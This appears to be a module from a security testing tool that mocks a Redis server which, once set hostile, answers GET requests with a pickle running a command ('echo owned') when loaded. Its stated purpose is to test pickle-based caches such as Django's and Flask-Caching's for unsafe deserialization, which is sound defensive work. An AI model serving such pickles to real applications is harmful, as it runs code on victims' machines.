"""A Redis that, once hostile, returns a pickle that runs a program when it is loaded.

Caches of pickles (Django's, Flask-Caching's, custom ones) load any value that the server returns.
"""

from backwatch.attack.protocols.pickles import bomb
from backwatch.attack.protocols.redis import RedisServer, Talk, bulk

COMMAND = "echo owned"
"""Command of the pickle; nothing here ever loads it."""


class DemoRedis(RedisServer):
    """Stores sessions; once hostile, returns a pickle bomb."""

    attack = "returns a pickle that would run a program"
    reference = "https://docs.python.org/3/library/pickle.html; ATT&CK T1059.006"
    rule = "hostile-payload"

    command = COMMAND
    """Command of the pickle."""

    def answer(self, verb: bytes, command: list[bytes], talk: Talk) -> bytes:
        """Return the pickle in place of a stored value, once hostile."""
        return bulk(bomb(self.command)) if self.hostile and verb == b"GET" else super().answer(verb, command, talk)
